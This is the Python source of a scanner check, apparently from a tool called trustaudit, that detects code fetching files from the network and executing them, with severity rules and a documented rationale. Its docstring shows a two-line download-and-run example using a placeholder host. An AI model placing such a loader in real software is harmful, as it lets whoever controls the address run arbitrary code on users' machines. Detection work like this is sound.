"""Code that downloads something and runs it

## What it does
Follows values through each Python file and notebook: what comes from a network call and ends in `exec`, in the program
of a new process, or in a file that is then started. Also commands that pipe a download into an interpreter.

## Why it matters
Whoever controls the address decides what runs, at any time after every audit. This is what the malicious repositories
of 2024 to 2026 did: clean weights, and a small loader that fetched the rest.

## Example
```python
urllib.request.urlretrieve("http://host.example/u.exe", path)
os.startfile(path)
```

## How to fix
Do not run this code. If the model is wanted, load its weights alone, into a library's own architecture.

## References
- https://hiddenlayer.com/innovation-hub/ (Open-OSS/privacy-filter, 2026-05)
- https://arxiv.org/abs/2601.14163 (custom code on model hubs)
- https://attack.mitre.org/techniques/T1105/
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from trustaudit.checks._code import MAIN, CodeFact, code_facts, code_finding
from trustaudit.checks._code_graph import Standing
from trustaudit.checks._text import bounded
from trustaudit.checks.interface import CheckMeta, Context, Need
from trustaudit.finding import Category, Confidence, Finding, Severity
from trustaudit.knowledge.hosts import host_classes
from trustaudit.snapshot import Snapshot

META = CheckMeta(
    id="code-download-execute",
    title="Code that downloads something and runs it",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    needs=frozenset({Need.CONTENTS}),
    local=True,
)

_FLOWS = {
    "network-execute": "runs what it gets from the network",
    "download-execute": "downloads a file and runs it",
}
_SHELL = "download-run"


def run(snapshot: Snapshot, _context: Context) -> Iterable[Finding]:
    """One finding per flow, bounded in number."""
    return bounded(META, _findings(snapshot))


def _findings(snapshot: Snapshot) -> Iterator[Finding]:
    for fact in code_facts(snapshot, "flow", "process", "install"):
        if fact.what in _FLOWS:
            yield _finding(fact, _FLOWS[fact.what])
        elif _SHELL in fact.note.get("traits").split():
            yield _finding(fact, "starts a command that downloads a script and runs it")


def _finding(fact: CodeFact, message: str) -> Finding:
    return code_finding(
        META, fact, message, _severity(fact), Confidence.HIGH if not fact.is_loose else Confidence.MEDIUM
    )


def _severity(fact: CodeFact) -> Severity:
    """A loader beside the weights is meant to be run: one step less at most, unless it fetches a known installer."""
    installers = bool(fact.urls) and all("installer" in host_classes(url) for url in fact.urls)
    if installers:
        return Severity.LOW
    if fact.run.standing is Standing.HOSTED:
        return Severity.MEDIUM
    severity = fact.weighed(Severity.CRITICAL, loose=1)
    return (
        max(severity, Severity.HIGH, key=lambda item: item.rank)
        if fact.phase != MAIN or not fact.is_loose
        else severity
    )
